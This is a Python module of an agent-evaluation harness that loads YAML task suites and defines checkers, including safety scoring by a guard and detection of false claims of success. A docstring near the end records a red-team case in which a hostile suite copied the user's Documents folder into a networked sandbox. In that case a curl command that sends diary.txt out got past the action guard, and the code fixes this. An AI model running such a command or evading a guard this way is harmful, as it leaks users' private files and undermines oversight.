"""Evaluation suites as YAML files: tasks, their setup, budgets, tags, scripts and checkers.

A suite is ``name``, ``description``, ``defaults`` (any task field) and ``tasks``; each task has an
``id``, the task fields of :class:`macrohard.types.Task`, an optional ``script`` (the actions the
scripted model plays) and a ``check``. Built-in suites live beside this module in ``suites/``.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Annotated, Any, Literal

from pydantic import BaseModel, ConfigDict, Field, model_validator

from macrohard.errors import ConfigError, TaskFileError
from macrohard.types import Budget, RunStatus, Task
from macrohard.yamlfile import load_model, read_text

SUITES_DIR = Path(__file__).parent / "suites"


class _Check(BaseModel):
    model_config = ConfigDict(extra="forbid")


class CommandCheck(_Check):
    """Run a shell command in the workspace after the agent finished; exit status 0 passes."""

    type: Literal["command"] = "command"
    command: str = Field(description="Shell command line, run with bash in the workspace.")
    timeout: float = Field(default=120.0, gt=0, description="Seconds before the check counts as failed.")


class FileCheck(_Check):
    """Look at one file of the workspace: exactly one of equals/contains/regex/exists/absent."""

    type: Literal["file"] = "file"
    path: str = Field(description="Path relative to the workspace.")
    equals: str | None = Field(default=None, description="The whole content (a trailing newline is ignored).")
    contains: str | None = Field(default=None, description="A substring the content must hold.")
    regex: str | None = Field(default=None, description="A regular expression searched in the content.")
    exists: bool | None = Field(default=None, description="True: the file must exist.")
    absent: bool | None = Field(default=None, description="True: the file must not exist.")

    @model_validator(mode="after")
    def _one_expectation(self) -> FileCheck:
        given = [k for k in ("equals", "contains", "regex", "exists", "absent") if getattr(self, k) is not None]
        if len(given) != 1:
            raise ValueError(f"a file check takes exactly one of equals/contains/regex/exists/absent, got {given or 'none'}")
        return self


class HttpCheck(_Check):
    """Ask a URL (usually a local test site) and check the answer, or what the site received."""

    type: Literal["http"] = "http"
    url: str = Field(default="", description="URL to ask; `{site}` is replaced by the task's site URL.")
    method: str = Field(default="GET", description="HTTP method.")
    status: int | None = Field(default=200, description="Expected status code (None: any).")
    body_contains: str | None = Field(default=None, description="A substring the response body must hold.")
    received_contains: dict[str, str] | None = Field(
        default=None, description="Fields a local test site must have received (from its `received` log).")


class PythonCheck(_Check):
    """Call ``module:function(workspace_path, run)``; it returns a bool or raises to fail."""

    type: Literal["python"] = "python"
    function: str = Field(pattern=r"^[\w.]+:\w+$", description="`package.module:function`.")


class BlockedCheck(_Check):
    """Safety scoring: every non-finish action of the task's script must have been refused by the guard."""

    type: Literal["blocked"] = "blocked"


class StatusCheck(_Check):
    """The run's own ending decides: for a task that cannot be done, the honest ending is `gave_up`, and an
    agent that claims success on it is a false success. ``command``, if given, must also exit 0 in the
    workspace (e.g. that nothing was created on the way)."""

    type: Literal["status"] = "status"
    expect: list[RunStatus] = Field(default_factory=lambda: [RunStatus.gave_up], min_length=1,
                                    description="The endings that pass (default: gave_up).")
    command: str | None = Field(default=None, description="A shell command that must also exit 0 (run like a "
                                "command check: reviewed by the guard, in a fresh sandbox over the workspace).")
    timeout: float = Field(default=120.0, gt=0, description="Seconds before the command counts as failed.")

    @model_validator(mode="after")
    def _not_running(self) -> StatusCheck:
        if RunStatus.running in self.expect:
            raise ValueError("a status check expects a finished run: `running` is never an ending")
        return self


Check = Annotated[CommandCheck | FileCheck | HttpCheck | PythonCheck | BlockedCheck | StatusCheck,
                  Field(discriminator="type")]


class SuiteTask(BaseModel):
    """One task of a suite: a :class:`Task` plus its id, script and check."""

    model_config = ConfigDict(extra="forbid")

    id: str = Field(pattern=r"^[\w.-]+$", description="Unique within the suite; names the task in reports.")
    text: str = Field(min_length=1)
    environment: str = "shell"
    files: dict[str, str] = Field(default_factory=dict)
    setup: list[str] = Field(default_factory=list)
    tags: list[str] = Field(default_factory=list)
    budget: Budget = Field(default_factory=Budget)
    network: str = "none"
    site: str | None = Field(default=None, description="A local test site served during the run (`macrohard.sites`).")
    source: str | None = Field(default=None, description="A directory the run starts from, copy-on-write (never "
                               "modified), e.g. a repository of the mutation suite (`scripts/make_mutation_suite.py`).")
    script: list[dict[str, Any]] | None = Field(default=None, description="Actions the scripted model plays.")
    check: Check | None = Field(default=None, description="How success is decided; none: the run's own status.")

    def to_task(self, model: str | None = None) -> Task:
        return Task(text=self.text, environment=self.environment, files=self.files, setup=self.setup,
                    tags=self.tags, budget=self.budget, network=self.network, model=model, source=self.source)


class Suite(BaseModel):
    """A named list of tasks."""

    model_config = ConfigDict(extra="forbid")

    name: str
    description: str = ""
    defaults: dict[str, Any] = Field(default_factory=dict)
    tasks: list[SuiteTask] = Field(min_length=1)
    source: str = Field(default="", description="Where the suite was loaded from (set by the loader).")

    @model_validator(mode="before")
    @classmethod
    def _apply_defaults(cls, data: Any) -> Any:
        if not isinstance(data, dict):
            return data
        defaults = data.get("defaults") or {}
        if not isinstance(defaults, dict) or not isinstance(data.get("tasks"), list):
            return data
        tasks = []
        for item in data["tasks"]:
            if isinstance(item, dict):
                merged = {**defaults, **item}
                if isinstance(defaults.get("budget"), dict) and isinstance(item.get("budget"), dict):
                    merged["budget"] = {**defaults["budget"], **item["budget"]}
                item = merged
            tasks.append(item)
        return {**data, "tasks": tasks}

    @model_validator(mode="after")
    def _unique_ids(self) -> Suite:
        seen: set[str] = set()
        for t in self.tasks:
            if t.id in seen:
                raise ValueError(f"task id {t.id!r} appears twice")
            seen.add(t.id)
        return self

    def tags(self) -> list[str]:
        return sorted({tag for t in self.tasks for tag in t.tags})


def builtin_suites() -> dict[str, Path]:
    """Built-in suite names and their files."""
    return {p.stem: p for p in sorted(SUITES_DIR.glob("*.yaml"))}


def _safety() -> Suite:
    from macrohard.eval.safety_suite import safety_suite

    return safety_suite()


# Suites built from other data at load time (so they never drift from their source).
GENERATED: dict[str, Callable[[], Suite]] = {"safety": _safety}


def builtin_names() -> list[str]:
    return sorted(set(builtin_suites()) | set(GENERATED))


def parse_suite(text: str, source: str = "<suite>") -> Suite:
    suite = load_model(text, source, Suite, error=TaskFileError, what="a suite", hint="it needs `name:` and `tasks:`")
    suite.source = source
    return suite


def load_suite(name_or_path: str | Path, allow_sources: Sequence[str | Path] = ()) -> Suite:
    """A built-in suite by name (`tiny`, `coding`, ...) or a YAML file by path (its tasks' ``source:`` confined to
    the suite's own folder and ``allow_sources``: see ``confine_sources``)."""
    if str(name_or_path) in GENERATED:
        return GENERATED[str(name_or_path)]()
    builtins = builtin_suites()
    if str(name_or_path) in builtins:
        path = builtins[str(name_or_path)]
    else:
        path = Path(name_or_path)
        if not path.is_file():
            raise TaskFileError(f"no suite {str(name_or_path)!r}: give a YAML file or one of the built-in suites "
                                f"({', '.join(builtin_names())}); `macrohard eval list` shows them")
    text = read_text(path, error=TaskFileError, what="suite", hint="it needs `name:` and `tasks:`")
    suite = parse_suite(text, str(path))
    if str(name_or_path) not in builtins:
        confine_sources(suite, path, allow_sources)
    return suite


def confine_sources(suite: Suite, path: Path, allow_sources: Sequence[str | Path] = ()) -> None:
    """A suite file's ``source:`` may name only a folder beside it (a relative path is read from the suite's own
    folder) or one the person named with ``--allow-source``. rt48c: a suite written by someone else named
    ``source: ~/Documents`` (any of the person's folders) with ``network: full``: the person's files were copied into
    a run that can send, and into every prompt to the model; only the guard's reading of each send stood between
    them and the suite's author (and rt48c got ``curl --data-urlencode d@diary.txt URL`` past it). Each source is
    stored resolved, so the run starts from the folder that was checked."""
    folder = path.expanduser().resolve().parent
    allowed = [folder, *(Path(a).expanduser().resolve() for a in allow_sources)]
    for task in suite.tasks:
        if not task.source:
            continue
        given = Path(task.source).expanduser()
        resolved = (given if given.is_absolute() else folder / given).resolve()
        if not any(resolved == a or a in resolved.parents for a in allowed):
            raise ConfigError(
                f"the suite {path} (task {task.id!r}) names `source: {task.source}`, a folder outside the suite's own "
                f"folder {folder}: a suite file chooses which of your folders its runs copy into their sandbox (and "
                f"send to the model){', with network ' + repr(task.network) if task.network != 'none' else ''}. If "
                f"you mean it, say it yourself: `macrohard eval run {path} --allow-source {resolved}`; or put the "
                "folder beside the suite and name it relative to the suite (`source: repos/NAME`)")
        task.source = str(resolved)
